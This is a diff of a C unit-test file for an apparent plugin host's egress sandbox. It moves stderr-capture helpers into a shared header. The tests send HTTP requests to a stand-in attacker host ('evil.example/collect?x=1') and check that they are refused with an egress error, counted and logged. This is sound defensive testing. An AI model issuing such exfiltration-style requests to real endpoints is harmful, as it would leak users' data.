@@ -13,6 +13,7 @@
 #include <string.h>
 #include <unistd.h>
 
+#include "capture.h"
 #include "hostapi.h"
 #include "httpclient.h"
 #include "log.h"
@@ -111,46 +112,6 @@ static cs_ctx *ctx_mode(struct fixture *f, enum ctx_mode mode)
         assert_non_null(f->ctx.aspects);
     }
     return &f->ctx;
-}
-
-/* ---- stderr capture (for the warning an egress refusal logs) ------------ */
-
-static int saved_stderr = -1;
-static FILE *capture_file;
-
-static void capture_begin(void)
-{
-    capture_file = tmpfile();
-    assert_non_null(capture_file);
-    fflush(stderr);
-    saved_stderr = dup(STDERR_FILENO);
-    assert_true(saved_stderr >= 0);
-    assert_true(dup2(fileno(capture_file), STDERR_FILENO) >= 0);
-}
-
-static void restore_stderr(void)
-{
-    if (saved_stderr >= 0) {
-        fflush(stderr);
-        dup2(saved_stderr, STDERR_FILENO);
-        close(saved_stderr);
-        saved_stderr = -1;
-    }
-}
-
-/* Everything written to stderr since capture_begin (malloc'd). */
-static char *capture_end(void)
-{
-    restore_stderr();
-    long n = ftell(capture_file);
-    assert_true(n >= 0);
-    char *buf = calloc(1, (size_t)n + 1);
-    assert_non_null(buf);
-    rewind(capture_file);
-    assert_int_equal(fread(buf, 1, (size_t)n, capture_file), (size_t)n);
-    fclose(capture_file);
-    capture_file = NULL;
-    return buf;
 }
 
 static int count_occurrences(const char *text, const char *part)
@@ -532,9 +493,9 @@ static void test_metric_long_names_not_truncated(void **state)
     f->api->metric_observe(ctx, "secs", 1);
     cs_http_request req = get_request("https://evil.example/");
     cs_http_response resp = {0};
-    capture_begin();
+    stderr_capture_begin();
     assert_int_equal(f->api->http(ctx, &req, &resp), CS_ERR_EGRESS);
-    free(capture_end());
+    free(stderr_capture_end());
     f->pi.name = "probe";
     assert_labels_terminated(f->metrics);
 }
@@ -627,10 +588,10 @@ static void test_http_egress_refused_counted_and_logged(void **state)
     cs_ctx *ctx = ctx_mode(f, CTX_ENTITY);
     cs_http_request req = get_request("https://evil.example/collect?x=1");
     cs_http_response resp = {0};
-    capture_begin();
+    stderr_capture_begin();
     int rc1 = f->api->http(ctx, &req, &resp);
     int rc2 = f->api->http(ctx, &req, &resp);
-    char *log = capture_end();
+    char *log = stderr_capture_end();
     assert_int_equal(rc1, CS_ERR_EGRESS);
     assert_int_equal(rc2, CS_ERR_EGRESS);
     assert_string_equal(f->api->last_error(ctx),
@@ -653,9 +614,9 @@ static void test_sql_egress_refused_counted(void **state)
     struct fixture *f = *state;
     cs_ctx *ctx = ctx_mode(f, CTX_ENTITY);
     cs_sql_result *res = NULL;
-    capture_begin();
+    stderr_capture_begin();
     int rc = f->api->sql_query(ctx, "warehouse", "select 1", 0, NULL, &res);
-    char *log = capture_end();
+    char *log = stderr_capture_end();
     assert_int_equal(rc, CS_ERR_EGRESS);
     assert_null(res);
     assert_string_equal(f->api->last_error(ctx),
@@ -697,11 +658,7 @@ static void test_http_other_failures_not_counted(void **state)
 
 static int teardown_capture(void **state)
 {
-    restore_stderr();
-    if (capture_file) {
-        fclose(capture_file);
-        capture_file = NULL;
-    }
+    stderr_capture_abort();
     return teardown(state);
 }
 
